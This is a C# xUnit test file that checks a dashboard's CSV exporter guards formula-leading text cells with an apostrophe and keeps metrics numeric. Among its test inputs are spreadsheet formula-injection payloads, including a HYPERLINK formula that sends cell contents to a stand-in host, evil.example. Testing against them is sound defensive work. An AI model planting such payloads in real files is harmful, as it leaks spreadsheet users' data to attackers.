using System.Globalization;
using System.Net.Http.Json;
using System.Text.Json;
using ContinualLearning.Storage.Export;
using Microsoft.VisualBasic.FileIO;

namespace ContinualLearning.Dashboard.Tests;

/// <summary>CSV exports cannot carry a formula: text cells that a spreadsheet would run start with an apostrophe.</summary>
public sealed class CsvGuardTests(DashboardServer server) : IClassFixture<DashboardServer>
{
    static readonly TimeSpan Patience = TimeSpan.FromMinutes(2);

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"x\")", "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-84.4", "'-84.4")] // as text (a name), a leading minus is guarded like any formula start
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("naive baseline", "naive baseline")]
    [InlineData("a=b", "a=b")] // only the first character makes a formula
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Text_cells_are_guarded_and_quoted(string? text, string cell) => Assert.Equal(cell, CsvWriter.TextCell(text));

    [Fact]
    public void Numbers_stay_numbers_negative_ones_too()
    {
        var csv = new CsvWriter().Number(-84.4).Number(0.12345).Number(null).Number(double.NaN).Number(3).EndRow().ToString();
        Assert.Equal("-84.4,0.1235,,,3\r\n", csv);
    }

    [Fact]
    public void Rows_end_in_crlf_and_cells_are_separated_by_commas()
    {
        var csv = new CsvWriter().Row(["id", "=name"]).Text("a").Number(-1).EndRow().ToString();
        Assert.Equal("id,'=name\r\na,-1\r\n", csv);
    }

    [Fact]
    public async Task A_run_named_with_a_formula_exports_as_text_while_its_metrics_stay_numbers()
    {
        using var http = server.Http();
        const string hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        var ids = new List<string>();
        foreach (var strategy in new[] { "naive", "replay" })
        {
            var created = await http.PostAsJsonAsync("/api/runs", new { strategy, iterationsPerTask = 2, evalEvery = 2 });
            var id = (await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetString()!;
            await server.Run(id).Completion.WaitAsync(Patience);
            ids.Add(id);
        }
        await WaitStored(http, ids);
        Assert.True((await http.PutAsJsonAsync($"/api/runs/{ids[0]}/name", new { name = hostile })).IsSuccessStatusCode);
        Assert.True((await http.PutAsJsonAsync($"/api/runs/{ids[1]}/name", new { name = "-5 is a name" })).IsSuccessStatusCode);

        var csv = await http.GetStringAsync($"/api/compare/csv?runs={ids[0]},{ids[1]}");
        Assert.StartsWith($"{ids[0]},\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",finished,naive,", csv.Split("\r\n")[1]);

        // Read back by an independent RFC 4180 reader: the names are text that starts with an apostrophe,
        // every metric cell is a plain number.
        var rows = Parse(csv);
        Assert.Equal(3, rows.Count);
        Assert.Equal(["'" + hostile, "'-5 is a name"], rows.Skip(1).Select(r => r[1]));
        int average = Array.IndexOf(rows[0], "average accuracy");
        Assert.True(average > 2);
        foreach (var row in rows.Skip(1))
            foreach (var metric in row[average..].Where(c => c != ""))
                Assert.True(double.TryParse(metric, NumberStyles.Float, CultureInfo.InvariantCulture, out _), metric);
    }

    static List<string[]> Parse(string csv)
    {
        using var parser = new TextFieldParser(new StringReader(csv)) { TextFieldType = FieldType.Delimited, HasFieldsEnclosedInQuotes = true };
        parser.SetDelimiters(",");
        var rows = new List<string[]>();
        while (!parser.EndOfData) rows.Add(parser.ReadFields()!);
        return rows;
    }

    /// <summary>Until the runs' terminal events are in the database (recording trails a run by one flush).</summary>
    static async Task WaitStored(HttpClient http, IReadOnlyCollection<string> ids)
    {
        using var limit = new CancellationTokenSource(Patience);
        while (true)
        {
            var list = await http.GetFromJsonAsync<JsonElement>("/api/history", limit.Token);
            if (ids.All(id => list.EnumerateArray().Any(r => r.GetProperty("id").GetString() == id && r.GetProperty("status").GetString() == "finished"))) return;
            await Task.Delay(100, limit.Token); // poll interval while waiting on a condition
        }
    }
}
